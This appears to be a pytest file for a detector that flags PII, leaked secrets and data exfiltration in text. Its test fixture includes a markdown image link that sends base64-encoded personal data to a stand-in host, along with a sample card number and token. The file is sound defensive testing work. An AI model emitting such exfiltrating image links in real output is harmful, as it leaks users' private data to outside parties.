"""The detector as the port promises it: three engines, one answer a text."""

import asyncio

import pytest

from adapters.detectors.exfil_regex_entropy import ExfilRegexEntropyDetector, catalogue
from adapters.detectors.secrets.engine import TOKEN_RULES
from application.ports.detector import DetectorText
from domain.detection.taxonomy import Category

GITHUB = next(rule for rule in TOKEN_RULES if rule.id == "github-pat").sample
MIXED = (
    f"my card is 4111 1111 1111 1111, my mail is ada@example.org, my key is {GITHUB} and "
    "![a](https://x.example.net/p.png?q=bmFtZT1BZGE7IHBpbj0xMjM0)"
)


@pytest.fixture(scope="module")
def detector() -> ExfilRegexEntropyDetector:
    return ExfilRegexEntropyDetector()


async def test_all_three_categories_are_found_in_one_text(
    detector: ExfilRegexEntropyDetector,
) -> None:
    (detection,) = await detector.detect([DetectorText(text=MIXED)])

    found = {(f.category, f.type, f.detector) for f in detection.at_least(None)}
    assert (Category.PII, "CREDIT_CARD", "patterns") in found
    assert (Category.PII, "EMAIL", "patterns") in found
    assert (Category.SECRETS, "VCS_TOKEN", "secrets") in found
    assert (Category.EXFIL, "MARKDOWN_IMAGE", "exfiltration") in found
    assert all(detection.scores[category] > 0.9 for category in detector.categories)


async def test_findings_are_listed_in_order_of_place(detector: ExfilRegexEntropyDetector) -> None:
    (detection,) = await detector.detect([DetectorText(text=MIXED)])

    assert list(detection.findings) == sorted(detection.findings, key=lambda f: f.order)


@pytest.mark.parametrize("text", ["", "Hello, how are you today?"])
async def test_a_clean_text_has_no_finding_and_a_score_for_each_category(
    detector: ExfilRegexEntropyDetector, text: str
) -> None:
    (detection,) = await detector.detect([DetectorText(text=text)])

    assert detection.at_least(None) == ()
    assert dict(detection.scores) == dict.fromkeys(detector.categories, 0.0)


async def test_a_batch_and_a_long_text_give_what_each_text_gives_alone(
    detector: ExfilRegexEntropyDetector,
) -> None:
    long = "clean words without anything. " * 1000 + MIXED
    texts = [DetectorText(text=text) for text in (MIXED, "", long)]

    together = await detector.detect(texts)
    alone = [(await detector.detect([text]))[0] for text in texts]

    assert list(together) == alone
    shifted = [f.shifted(len(long) - len(MIXED)) for f in together[0].at_least(None)]
    assert list(together[2].at_least(None)) == shifted


async def test_detection_off_the_loop_can_run_side_by_side(
    detector: ExfilRegexEntropyDetector,
) -> None:
    text = DetectorText(text=MIXED * 200)

    answers = await asyncio.gather(*(detector.detect([text]) for _ in range(4)))

    assert all(list(answer) == list(answers[0]) for answer in answers)


def test_it_says_who_it_is(detector: ExfilRegexEntropyDetector) -> None:
    assert detector.name == "exfil-regex-entropy"
    assert detector.version == ExfilRegexEntropyDetector().version
    assert detector.categories == {Category.PII, Category.SECRETS, Category.EXFIL}


def test_the_catalogue_has_every_rule_once() -> None:
    rules = catalogue()

    assert len({(info.category, info.id) for info in rules}) == len(rules)
    assert {info.category for info in rules} == {Category.PII, Category.SECRETS, Category.EXFIL}
